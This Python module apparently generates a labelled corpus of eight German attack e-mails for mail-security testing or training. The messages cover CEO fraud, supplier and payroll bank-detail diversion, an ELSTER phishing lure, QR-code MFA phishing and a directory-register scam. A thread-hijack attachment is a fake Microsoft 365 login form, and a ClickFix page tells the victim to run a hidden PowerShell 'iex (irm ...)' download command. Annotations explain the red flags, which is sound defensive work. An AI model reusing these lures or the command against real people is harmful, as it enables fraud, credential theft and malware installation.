"""German attack messages (8)."""

import base64

import ids
import org
import pdf
import qr
from core import mail, Text, Bin, Multi
from infra import Client, Hosted, UIMail, ESP, Gmail
from mime import HStyle
from org import S, A, esc

UTF8Q = HStyle("utf-8", "Q")
UTF8B = HStyle("utf-8", "B")


# 01 ---------------------------------------------------------------------
def ceo_fraud():
    body = """Hallo Frau Weiß,

sind Sie heute noch bis 18 Uhr im Büro erreichbar?

Wir stehen kurz vor der Unterzeichnung einer Übernahme eines Polstermöbelherstellers in Norditalien (intern „Projekt Eiche“). Die Transaktion ist kartellrechtlich noch nicht freigegeben, daher bitte ich Sie, die Angelegenheit absolut vertraulich zu behandeln und vorerst weder mit Ihrem Team noch mit der Buchhaltung zu besprechen – auch nicht mit Frau Hoffmann.

Für die Exklusivitätsvereinbarung muss heute noch eine Sicherheitsleistung über 286.400,00 EUR auf das Treuhandkonto der begleitenden Kanzlei angewiesen werden. Herr Richard Ashworth (Ashworth Kemble LLP, London) meldet sich in Kürze per E-Mail mit den Kontodaten und dem Treuhandvertrag bei Ihnen. Bitte folgen Sie seinen Anweisungen, die Freigabe im Vier-Augen-Verfahren holen wir nach Abschluss nach.

Ich sitze bis zum Abend in Verhandlungen in Mailand und kann nicht telefonieren. Bitte antworten Sie nur per Mail auf diese Adresse.

Vielen Dank für Ihre Unterstützung.

Jürgen Köhler
Geschäftsführer

Von meinem iPhone gesendet
"""
    route = Hosted("mail.examplegroup.de", "static.187.33.202.116.clients.your-server.de",
                   "116.202.33.187", mta="postfix",
                   origin=("[192.168.1.5]", "unknown", "185.107.57.9"), by="mail.examplegroup.de")
    cl = Client("iphone", domain="examplegroup.de", hstyle=HStyle("utf-8", "Q", quote_names=False),
                mailer="iPhone Mail (23B85)")
    return mail(kind="attack", lang="de", slug="ceo-fraud-projekt-eiche",
                t="2026-10-14 16:42:10", rcpt=A("cfo"), route=route, client=cl,
                frm=("Jürgen Köhler", "juergen.koehler@examplegroup.de"), to=[S["cfo"]],
                subject="Vertraulich – Projekt Eiche",
                body=Text(body, charset="utf-8", cte="quoted-printable"),
                what="CEO fraud: 'Jürgen Köhler' asks the CFO to wire a EUR 286,400 'escrow deposit' "
                     "for a secret acquisition; a 'lawyer' will follow up (see 09).",
                why="Look-alike domain examplegroup.de (company uses example.com / examplegroup.eu), "
                    "sent from a Hetzner VPS instead of the internal relay; secrecy, urgency, "
                    "bypass of the four-eyes approval, CEO 'cannot phone', formal 'Sie' where CEO and CFO "
                    "are on first-name terms (compare genuine business 01).")


# 02 ---------------------------------------------------------------------
def supplier_bank_change():
    new = ids.iban_lt("35000", "10001234567")
    old = org.BANK["lieferant_old"]
    body = """Sehr geehrte Frau Schröder,

im Zuge der Umstellung unserer Unternehmensfinanzierung auf ein Factoring-Modell hat sich unsere Bankverbindung geändert. Wir bitten Sie, alle künftigen Zahlungen – auch die aktuell fälligen Rechnungen – ausschließlich auf das unten genannte Konto zu leisten:

Kontoinhaber: Lieferant GmbH
Bank: Paysera LT, UAB
IBAN: %s
BIC: EVIULT2VXXX

Betroffen sind insbesondere:
RE-2026-10877 vom 28.09.2026   21.406,12 EUR
RE-2026-10912 vom 05.10.2026   18.937,55 EUR
RE-2026-11004 vom 19.10.2026   23.074,60 EUR
Summe                          63.418,27 EUR

Unser bisheriges Konto bei der Sparkasse Minden-Lübbecke (%s) wird zum 20.11.2026 aufgelöst; Zahlungen dorthin werden zurückgebucht und können zu Verzögerungen bei Ihren Lieferungen führen.

Das offizielle Schreiben unserer Geschäftsführung finden Sie im Anhang. Bitte bestätigen Sie uns die Änderung in Ihrem Kreditorenstamm kurz per E-Mail. Telefonisch bin ich diese Woche leider nur eingeschränkt erreichbar, da wir unsere Telefonanlage umstellen.

Vielen Dank für Ihre Unterstützung und freundliche Grüße

Petra Lang
Innendienst / Auftragsabwicklung

Lieferant GmbH
Industriestraße 7 · 32312 Lübbecke
Tel. +49 5741 3092-0
www.lieferant-gmbh.de
""" % (ids.fmt_iban(new), ids.fmt_iban(old))
    letter = pdf.make_pdf([
        "# Lieferant GmbH", "Industriestraße 7 · 32312 Lübbecke", "",
        "Example Group GmbH", "Kreditorenbuchhaltung", "Werner-Straße 12", "32049 Herford", "",
        "Lübbecke, 11.11.2026", "",
        "# Mitteilung über die Änderung unserer Bankverbindung", "",
        "Sehr geehrte Damen und Herren,", "",
        "wir teilen Ihnen mit, dass Zahlungen an die Lieferant GmbH mit sofortiger Wirkung",
        "ausschließlich auf folgendes Konto zu leisten sind:", "",
        "Kontoinhaber: Lieferant GmbH", "Kreditinstitut: Paysera LT, UAB",
        "IBAN: " + ids.fmt_iban(new), "BIC: EVIULT2VXXX", "",
        "Alle bisherigen Bankverbindungen verlieren zum 20.11.2026 ihre Gültigkeit.", "",
        "Mit freundlichen Grüßen", "", "Stefan Maier", "Prokurist", "",
        "Lieferant GmbH · Amtsgericht Bad Oeynhausen HRB 9712 · USt-IdNr. " + ids.de_ustid("12659871"),
    ], title="Bankverbindung", producer="Microsoft: Print To PDF", creator="", author="",
        created="20261111143012+01'00'")
    route = Hosted("mail.lieferant-gbmh.de", "vps-3f9a12c4.vps.ovh.net", "51.75.142.19",
                   mta="postfix", webmail=True, by="mail.lieferant-gbmh.de")
    cl = Client("roundcube", domain="lieferant-gbmh.de", hstyle=UTF8Q, mailer="Roundcube Webmail/1.6.11")
    return mail(kind="attack", lang="de", slug="lieferant-bankwechsel-lookalike",
                t="2026-11-12 14:55:31", rcpt=A("ap1"), route=route, client=cl,
                frm=("Petra Lang", "p.lang@lieferant-gbmh.de"), to=[S["ap1"]],
                cc=[("Stefan Maier", "s.maier@lieferant-gbmh.de")],
                subject="Änderung unserer Bankverbindung – offene Posten Lieferant GmbH",
                body=Multi("mixed", [Text(body, charset="utf-8", cte="quoted-printable",
                                          params="; format=flowed"),
                                     Bin(letter, "application/pdf", "Bankverbindung_Lieferant_GmbH_neu.pdf")]),
                what="Supplier bank-detail change 'from Lieferant GmbH' redirecting three open invoices "
                     "(EUR 63,418.27) to a Lithuanian EMI account.",
                why="Typosquatted domain lieferant-gbmh.de (real: lieferant-gmbh.de) on an OVH VPS with "
                    "Roundcube; foreign EMI account for a German Mittelstand supplier, pressure to "
                    "pay open items, phone 'not reachable', letter signed by a Prokurist not by the "
                    "managing directors. Genuine change (business 02) asks for a call-back.")


# 03 ---------------------------------------------------------------------
def _fake_m365_login(title, action, user):
    return """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8">
<title>%s</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<style>
body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f2f2f2}
.box{width:440px;margin:90px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
.logo{font-size:15px;color:#737373;margin-bottom:16px}
h1{font-size:24px;font-weight:600;margin:0 0 12px}
input{width:100%%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;margin:8px 0 16px}
button{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right;font-size:15px}
.doc{font-size:13px;background:#f3f9fd;border-left:3px solid #0067b8;padding:8px;margin-bottom:16px}
</style></head>
<body><div class="box">
<div class="logo">&#9632;&#9632; Microsoft</div>
<div class="doc">Freigegebenes Dokument: <b>Rahmenvertrag_2027_Preisliste.pdf</b> (412 KB)<br>
Zum Anzeigen bestätigen Sie bitte Ihr Geschäftskonto.</div>
<h1>Anmelden</h1>
<form method="post" action="%s">
<input type="email" name="login" value="%s">
<input type="password" name="passwd" placeholder="Kennwort">
<input type="hidden" name="doc" value="WHW-2027-RV">
<button type="submit">Anmelden</button>
</form>
<p style="font-size:13px;clear:both;padding-top:24px">Kein Zugriff auf Ihr Konto?</p>
</div></body></html>
""" % (title, action, user)


def thread_hijack_holzwerkstoffe():
    quoted = """-----Ursprüngliche Nachricht-----
Von: Ralf Dietrich <ralf.dietrich@example.com>
Gesendet: Montag, 2. November 2026 10:41
An: Uwe Brinkmann <u.brinkmann@westfalen-holzwerkstoffe.de>
Betreff: Rahmenvereinbarung 2027 – Spanplatten P2 / MDF

Hallo Herr Brinkmann,

danke für das Gespräch am Freitag. Wie besprochen bräuchten wir für die Planung 2027 Ihre Preise für P2 roh 19 mm und MDF 16/19 mm sowie die Staffel ab 1.800 m³ Jahresmenge. Den Rahmenvertrag würden wir gern bis Mitte Dezember unterschreiben.

Viele Grüße
Ralf Dietrich
Leitung Einkauf
Example Group GmbH
"""
    body = """Hallo Herr Dietrich,

wie angekündigt anbei die überarbeitete Preisliste 2027 sowie der Entwurf des Rahmenvertrags mit der Mengenstaffel ab 1.800 m³.

Aus Vertraulichkeitsgründen stellen wir Preisunterlagen seit diesem Monat nur noch über unser geschütztes Dokumentenportal bereit. Bitte öffnen Sie die angehängte Datei und melden Sie sich mit Ihrem Microsoft-365-Konto an, die Unterlagen werden dann direkt angezeigt.

Für Rückfragen stehe ich Ihnen gern zur Verfügung.

Mit freundlichen Grüßen

Uwe Brinkmann
Vertrieb Möbelindustrie

Westfalen Holzwerkstoffe GmbH
Mindener Straße 140 · 32547 Bad Oeynhausen
Tel. +49 5731 77480-22

""" + quoted
    att = _fake_m365_login("Dokument anzeigen – Microsoft 365",
                           "https://whw-docs.r2-cdn-view.com/auth/o365/submit.php",
                           A("proc")).encode("utf-8")
    route = UIMail("ionos", origin_ip="45.134.26.81", webmail=False)
    cl = Client("ox", domain="westfalen-holzwerkstoffe.de", hstyle=UTF8Q,
                mailer="Open-Xchange Mailer v7.10.6-Rev71")
    return mail(kind="attack", lang="de", slug="threadhijack-holzwerkstoffe-htmlanhang",
                t="2026-11-04 07:12:48", rcpt=A("proc"), route=route, client=cl,
                origin_helo="[10.8.0.6]",
                frm=("Uwe Brinkmann", "u.brinkmann@westfalen-holzwerkstoffe.de"), to=[S["proc"]],
                subject="AW: Rahmenvereinbarung 2027 – Spanplatten P2 / MDF",
                refs=("<3b9e0d57a1c24f68b2e7d4a90c1f5e26@EXCH02.corp.example.com>",
                      ["<3b9e0d57a1c24f68b2e7d4a90c1f5e26@EXCH02.corp.example.com>"]),
                body=Multi("mixed", [Text(body, charset="utf-8", cte="quoted-printable"),
                                     Bin(att, "text/html; charset=UTF-8", "Rahmenvertrag_2027_Westfalen_Holzwerkstoffe.htm",
                                         cte="base64")]),
                what="Reply in a real procurement thread from the genuinely compromised mailbox of "
                     "supplier Westfalen Holzwerkstoffe, with an HTML attachment that is a fake "
                     "Microsoft 365 sign-in page.",
                why="Genuine partner domain and IONOS infrastructure, but submitted via Open-Xchange webmail "
                    "from a hosting IP at 07:12 instead of the sender's Outlook from his office line (compare "
                    "business 03); the attachment is a local credential form posting to a third-party "
                    "host; price lists are never behind a Microsoft login.")


# 04 ---------------------------------------------------------------------
def elster():
    link = "https://u48213.ct.sendgrid.net/ls/click?upn=u001.%s" % base64.urlsafe_b64encode(
        b"https://elster-zertifikat-service.de/eportal/verlaengerung?org=DE-335-5712-0468").decode().rstrip("=")
    txt = """ELSTER – Ihr Online-Finanzamt

Sehr geehrte Nutzerin, sehr geehrter Nutzer,

das für die Organisation Example Group GmbH (Steuernummer 335/5712/0468) ausgestellte ELSTER-Organisationszertifikat läuft am 30.11.2026 ab.

Nach Ablauf können Umsatzsteuer-Voranmeldungen, Lohnsteuer-Anmeldungen und Zusammenfassende Meldungen nicht mehr elektronisch übermittelt werden. Verspätet abgegebene Anmeldungen können einen Verspätungszuschlag nach § 152 AO nach sich ziehen.

Bitte verlängern Sie das Zertifikat bis spätestens 23.11.2026:
%s

Sie benötigen dafür Ihre bisherige Zertifikatsdatei (.pfx) und das zugehörige Passwort.

Mit freundlichen Grüßen
Ihr ELSTER-Team

Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.
""" % link
    html = """<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>ELSTER</title></head>
<body style="margin:0;background:#eef1f4;font-family:Arial,Helvetica,sans-serif;color:#1b1b1b">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;margin:24px 0">
<tr><td style="background:#14548a;color:#fff;padding:18px 28px;font-size:22px;font-weight:bold">ELSTER
<span style="font-weight:normal;font-size:14px">&nbsp;Ihr Online-Finanzamt</span></td></tr>
<tr><td style="padding:28px;font-size:14px;line-height:21px">
<p>Sehr geehrte Nutzerin, sehr geehrter Nutzer,</p>
<p>das f&uuml;r die Organisation <b>Example Group GmbH</b> (Steuernummer 335/5712/0468) ausgestellte
<b>ELSTER-Organisationszertifikat l&auml;uft am 30.11.2026 ab</b>.</p>
<p>Nach Ablauf k&ouml;nnen Umsatzsteuer-Voranmeldungen, Lohnsteuer-Anmeldungen und Zusammenfassende
Meldungen nicht mehr elektronisch &uuml;bermittelt werden. Versp&auml;tet abgegebene Anmeldungen k&ouml;nnen
einen Versp&auml;tungszuschlag nach &sect; 152 AO nach sich ziehen.</p>
<p style="text-align:center;margin:30px 0"><a href="%s" style="background:#14548a;color:#fff;
padding:12px 26px;text-decoration:none;border-radius:3px">Zertifikat jetzt verl&auml;ngern</a></p>
<p>Sie ben&ouml;tigen daf&uuml;r Ihre bisherige Zertifikatsdatei (.pfx) und das zugeh&ouml;rige Passwort.</p>
<p>Mit freundlichen Gr&uuml;&szlig;en<br>Ihr ELSTER-Team</p>
</td></tr>
<tr><td style="padding:14px 28px;font-size:11px;color:#666;border-top:1px solid #ddd">Diese Nachricht
wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail. &middot;
<a href="%s" style="color:#666">www.elster.de</a></td></tr>
</table></td></tr></table>
<img src="https://u48213.ct.sendgrid.net/wf/open?upn=u001.%s" width="1" height="1" alt="">
</body></html>
""" % (link, link, base64.urlsafe_b64encode(b"o-7781-elster").decode().rstrip("="))
    route = ESP("sendgrid", zone="UTC")
    cl = Client("sendgrid", domain="elster-zertifikat-service.de", hstyle=UTF8Q)
    return mail(kind="attack", lang="de", slug="elster-zertifikat-sendgrid",
                t="2026-11-09 08:03:17", rcpt=A("ap2"), route=route, client=cl,
                env_from="bounces+41852371-9c2e-tobias.brandt=example.com@em4471.elster-zertifikat-service.de",
                frm=("ELSTER – Ihr Online-Finanzamt", "noreply@elster-zertifikat-service.de"),
                to=[("", A("ap2"))],
                subject="Ihr ELSTER-Organisationszertifikat läuft am 30.11.2026 ab",
                body=Multi("alternative", [Text(txt, charset="utf-8", cte="quoted-printable"),
                                           Text(html, "html", charset="utf-8", cte="quoted-printable")]),
                what="Tax-office phishing: ELSTER organisation certificate 'expires', link to renew "
                     "asks for the .pfx file and its password.",
                why="Sent through an abused SendGrid account from elster-zertifikat-service.de, not "
                    "elster.de; ELSTER never asks for the certificate file by e-mail link; click-tracking "
                    "URL hides the look-alike; penalty threat (§ 152 AO) for urgency.")


# 05 ---------------------------------------------------------------------
def quishing_mfa():
    target = A("asst")
    url = "https://login.examplegroup-sso.com/common/mfa/renew?u=" + base64.urlsafe_b64encode(
        target.encode()).decode().rstrip("=") + "&r=2611"
    png = qr.qr_png(url, scale=5)
    txt = """Microsoft 365 – Sicherheitshinweis

Hallo Katrin Hoffmann,

im Rahmen der Umstellung auf die neuen Sicherheitsrichtlinien für Microsoft 365 müssen alle Konten der Example Group ihre Multi-Faktor-Authentifizierung bis zum 06.11.2026 neu registrieren.

Scannen Sie dazu den QR-Code in dieser Nachricht mit der Kamera Ihres Smartphones und folgen Sie den Anweisungen. Der Vorgang dauert weniger als zwei Minuten.

Konten, die bis zum Stichtag nicht neu registriert wurden, werden aus Sicherheitsgründen vorübergehend gesperrt.

IT-Service Example Group
"""
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222">
<table width="560" cellpadding="0" cellspacing="0" style="border:1px solid #ddd">
<tr><td style="padding:16px 24px;border-bottom:4px solid #0078d4;font-size:18px">Microsoft 365 &ndash; Sicherheitshinweis</td></tr>
<tr><td style="padding:24px">
<p>Hallo Katrin Hoffmann,</p>
<p>im Rahmen der Umstellung auf die neuen Sicherheitsrichtlinien f&uuml;r Microsoft 365 m&uuml;ssen alle Konten
der Example Group ihre <b>Multi-Faktor-Authentifizierung bis zum 06.11.2026 neu registrieren</b>.</p>
<p>Scannen Sie dazu den folgenden QR-Code mit der Kamera Ihres Smartphones:</p>
<p style="text-align:center"><img src="cid:mfa-qr-2611@examplegroup" width="185" height="185" alt="QR-Code"></p>
<p>Der Vorgang dauert weniger als zwei Minuten. Konten, die bis zum Stichtag nicht neu registriert wurden,
werden aus Sicherheitsgr&uuml;nden vor&uuml;bergehend gesperrt.</p>
<p>IT-Service Example Group</p>
</td></tr></table></body></html>
"""
    route = Hosted("mo4-p00-ob.smtp.rzone.de", "mo4-p00-ob.smtp.rzone.de", "81.169.146.161",
                   mta="strato", origin=("[192.168.0.41]", "", ""))
    cl = Client("thunderbird", domain="zahnarztpraxis-dr-roth.de", hstyle=UTF8Q, mailer="Mozilla Thunderbird")
    body = Multi("related", [
        Multi("alternative", [Text(txt, charset="utf-8", cte="quoted-printable"),
                              Text(html, "html", charset="utf-8", cte="quoted-printable")]),
        Bin(png, "image/png", "qr.png", disposition="inline", cid="mfa-qr-2611@examplegroup")])
    return mail(kind="attack", lang="de", slug="quishing-mfa-neuregistrierung",
                t="2026-11-02 07:48:05", rcpt=target, route=route, client=cl,
                frm=("IT-Service Example Group", "praxis@zahnarztpraxis-dr-roth.de"),
                to=[S["asst"]],
                subject="Aktion erforderlich: Neuregistrierung Ihrer Multi-Faktor-Authentifizierung bis 06.11.",
                body=body, qr=url,
                what="Quishing: 'IT-Service' demands MFA re-registration by scanning an inline QR code "
                     "that leads to a Microsoft 365 phishing/AiTM page pre-filled with the victim's address.",
                why="Display name impersonates internal IT but the address is a compromised dental "
                    "practice on Strato; QR code hides the look-alike URL examplegroup-sso.com from link "
                    "scanners; lockout threat; internal IT announces MFA changes through the relay and "
                    "never by QR (business 05).")


# 06 ---------------------------------------------------------------------
def fair_directory():
    iban = ids.iban_es("0182", "5322", "0201587412")
    form = pdf.make_pdf([
        "# EXPO-REGISTER 2027/2028", "Internationales Aussteller- und Messeverzeichnis", "",
        "Aktualisierung des Ausstellereintrags – HOLZ & RAUM 2027, Bad Salzuflen", "",
        "Firma: Example Group GmbH", "Anschrift: Werner-Straße 12, 32049 Herford",
        "Telefon: ____________________   E-Mail: ____________________",
        "Produktgruppen: Kastenmöbel, Polstermöbel, Objekteinrichtung", "",
        "Bitte korrigieren bzw. ergänzen Sie die Angaben und senden Sie das Formular",
        "unterschrieben per E-Mail an service@expo-register-verzeichnis.eu zurück.", "",
        "Ort, Datum: ______________________   Stempel/Unterschrift: ______________________", "", "",
        "Mit der Unterschrift wird der Auftrag zur Veröffentlichung des Eintrags im EXPO-REGISTER",
        "(Print und online) erteilt. Die Vertragslaufzeit beträgt drei Jahre. Der Preis beträgt",
        "1.271 EUR pro Jahr zzgl. MwSt., zahlbar jährlich im Voraus auf IBAN " + ids.fmt_iban(iban) + ".",
        "Der Vertrag verlängert sich um jeweils ein Jahr, sofern er nicht drei Monate vor Ablauf",
        "schriftlich gekündigt wird. Gerichtsstand ist Madrid. EXPO-REGISTER ist ein privates",
        "Verzeichnis und steht in keiner Verbindung zu Messeveranstaltern.",
    ], title="Formular Ausstellereintrag", producer="iText 2.1.7 by 1T3XT", creator="", author="",
        created="20261103101500+01'00'")
    txt = """Sehr geehrte Damen und Herren,

Ihr Unternehmen ist als Aussteller der HOLZ & RAUM 2027 (Bad Salzuflen, 19.–22. Januar 2027) registriert.

Damit Ihr Unternehmen im Aussteller- und Messeverzeichnis 2027/2028 mit korrekten Angaben erscheint, bitten wir Sie, die Daten im beigefügten Formular zu prüfen, gegebenenfalls zu ergänzen und das Formular unterschrieben bis zum 20.11.2026 zurückzusenden.

Nicht aktualisierte Einträge können leider nicht berücksichtigt werden.

Mit freundlichen Grüßen

Aussteller-Service
EXPO-REGISTER
"""
    route = ESP("brevo", zone="CET")
    cl = Client("brevo", domain="expo-register-verzeichnis.eu", hstyle=UTF8Q)
    return mail(kind="attack", lang="de", slug="messeverzeichnis-formularfalle",
                t="2026-11-05 10:20:44", rcpt=A("contract"), route=route, client=cl,
                env_from="bounces-2207413-%s@bounce.expo-register-verzeichnis.eu" % "felix.kraemer=examplegroup.eu",
                frm=("Aussteller-Service HOLZ & RAUM 2027", "service@expo-register-verzeichnis.eu"),
                to=[S["contract"]],
                subject="HOLZ & RAUM 2027 – Aktualisierung Ihres Ausstellereintrags (Frist 20.11.2026)",
                body=Multi("mixed", [Text(txt, charset="utf-8", cte="8bit"),
                                     Bin(form, "application/pdf", "Ausstellereintrag_Example_Group_2027.pdf")]),
                extra=[("List-Unsubscribe", "<mailto:unsubscribe@expo-register-verzeichnis.eu>")],
                what="Fake exhibitor-directory 'data update' form for the fair the company exhibits at; "
                     "signing it is a 3-year order at EUR 1,271/year payable to a Spanish IBAN.",
                why="Classic directory/register scam: display name suggests the fair organiser but the "
                    "sender is an unrelated private directory (bulk via Brevo); the cost and 3-year term are "
                    "only in the PDF small print; the real organiser's exhibitor newsletter warns about "
                    "exactly this (business 08).")


# 07 ---------------------------------------------------------------------
def payroll_diversion():
    new = ids.iban_de(10011001, 2618473905)
    body = """Hallo Anja,

ich habe mein Gehaltskonto zu N26 gewechselt. Könntest du bitte die neue Bankverbindung schon für die Abrechnung November hinterlegen?

Kontoinhaber: Felix Krämer
IBAN: %s
BIC: NTSBDEB1XXX

Ich schreibe dir von meiner privaten Adresse, weil ich diese Woche auf der Baustelle in Leeds bin und mich mit dem Laptop gerade nicht ins VPN einwählen kann. Das Formular kann ich gern nachreichen, wenn ich zurück bin, aber ich möchte nicht, dass das Gehalt noch aufs alte Konto geht – das löse ich Ende des Monats auf.

Gib mir bitte kurz Bescheid, wenn es eingetragen ist.

Danke dir!
Felix
""" % ids.fmt_iban(new)
    route = UIMail("webde", origin_ip="5.180.61.7", webmail=True, app="3c-app-webde-bap12")
    cl = Client("trinity", domain="3c-app-webde-bap12", hstyle=HStyle("utf-8", "Q", quote_names=False),
                extra=[("Importance", "normal"), ("Sensitivity", "Normal"), ("X-Priority", "3")])
    return mail(kind="attack", lang="de", slug="gehaltskonto-umleitung-privatmail",
                t="2026-11-17 21:37:52", rcpt=A("hr"), route=route, client=cl,
                frm=("Felix Krämer", "felix.kraemer1984@web.de"), to=[S["hr"]],
                subject="Neue Bankverbindung für mein Gehalt",
                body=Text(body, charset="UTF-8", cte="quoted-printable"),
                what="Payroll diversion: an 'employee' asks HR from a private web.de address to change his "
                     "salary account to a neobank before the November payroll run.",
                why="Unknown private address for Felix Krämer (real mailbox felix.kraemer@examplegroup.eu), "
                    "sent at night from a VPN/hosting IP, asks to skip the signed change form, payroll-cutoff "
                    "urgency; the real Felix is not on a site in Leeds. Compare business 06 (genuine "
                    "private-mail sick note that asks for nothing).")


# 08 ---------------------------------------------------------------------
def clickfix():
    cmd = ("powershell -w h -nop -c \"iex (irm 'https://fotoviewer-cdn.cloud/v/2026-1187')\"  "
           "# Cloudflare Verifizierung: Ich bin kein Roboter - ID 4471-A9")
    page = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>Reklamation 2026-1187 – Fotos</title>
<style>
body{font-family:-apple-system,"Segoe UI",Arial,sans-serif;background:#fff;color:#313131;margin:0}
.wrap{max-width:640px;margin:80px auto;padding:0 20px}
.cf{border:1px solid #d9d9d9;background:#fafafa;padding:18px;border-radius:4px;margin:24px 0}
pre{background:#1e1e1e;color:#d4d4d4;padding:10px;font-size:12px;white-space:pre-wrap;border-radius:3px}
.steps li{margin:8px 0}
.foot{font-size:12px;color:#8a8a8a;margin-top:40px}
</style></head><body><div class="wrap">
<h2>fotoviewer-cdn.cloud</h2>
<p>Bestätigen Sie, dass Sie ein Mensch sind. Dies kann einige Sekunden dauern.</p>
<div class="cf"><b>&#9888; Verifizierung fehlgeschlagen</b><br>
Ihr Browser konnte nicht automatisch verifiziert werden. Bitte führen Sie die folgenden Schritte aus,
um die Fotos zur Reklamation 2026-1187 (14 Dateien) anzuzeigen:
<ol class="steps">
<li>Drücken Sie die <b>Windows-Taste + R</b></li>
<li>Drücken Sie <b>Strg + V</b>, um den Verifizierungscode einzufügen</li>
<li>Drücken Sie <b>Enter</b></li>
</ol>
Verifizierungscode (wird automatisch in die Zwischenablage kopiert):
<pre>%s</pre>
</div>
<p class="foot">Ray ID: 8f3c2a91d7b04e16 &middot; Performance &amp; security by Cloudflare</p>
</div></body></html>
""" % esc(cmd)
    body = """Guten Tag Frau Fischer,

wie heute Vormittag telefonisch besprochen, anbei die Fotos der beschädigten Fronten aus der Lieferung vom 21.10. (Kommission Hellweg, Lieferschein 80012377). Zwei Schubkastenblenden und eine Seitenwand haben deutliche Druckstellen, die Kantenumleimung ist an mehreren Stellen abgeplatzt.

Da die Bilder in voller Auflösung zu groß für den Mailversand sind, haben wir sie über unseren Foto-Viewer bereitgestellt – die Datei im Anhang öffnen, dann werden alle 14 Fotos angezeigt.

Bitte um kurze Rückmeldung, ob Sie Ersatzteile schicken oder ob der Monteur vorbeikommt. Der Kunde möchte die Küche bis Ende November fertig haben.

Mit freundlichen Grüßen

Sandra Hagemeier
Auftragsbüro

Tischlerei Hagemeier GmbH
Bielefelder Straße 88 · 33602 Bielefeld
Tel. 0521 9615 330
"""
    route = Hosted("dd27724.kasserver.com", "dd27724.kasserver.com", "85.13.152.74", mta="postfix",
                   origin=("[192.168.2.104]", "unknown", "23.94.117.40"), by="dd27724.kasserver.com")
    cl = Client("outlook", domain="tischlerei-hagemeier.de", hstyle=HStyle("iso-8859-1", "Q", quote_names=True),
                mailer="Microsoft Outlook 16.0")
    return mail(kind="attack", lang="de", slug="clickfix-reklamationsfotos",
                t="2026-11-19 13:26:09", rcpt=A("sales"), route=route, client=cl,
                frm=("Tischlerei Hagemeier - Auftragsbüro", "info@tischlerei-hagemeier.de"),
                to=[S["sales"]],
                subject="Reklamation Auftrag 2026-1187 – Fotos der beschädigten Fronten",
                body=Multi("mixed", [Text(body, charset="windows-1252", cte="quoted-printable"),
                                     Bin(page.encode("utf-8"), "text/html; charset=utf-8", "Reklamation_Fotos_2026-1187.html")]),
                what="ClickFix: complaint e-mail from a compromised joinery mailbox; the HTML attachment "
                     "shows a fake Cloudflare check telling the user to paste a PowerShell download "
                     "command into Win+R.",
                why="Sender is a genuine but compromised small business (all-inkl) submitting from a US "
                    "hosting IP; no prior relationship or phone call; the attachment instructs the "
                    "victim to run 'powershell … iex (irm …)' (inert here, remote URL only); genuine "
                    "complaints carry the photos themselves (business 07).")


MESSAGES = [ceo_fraud, supplier_bank_change, thread_hijack_holzwerkstoffe, elster, quishing_mfa,
            fair_directory, payroll_diversion, clickfix]
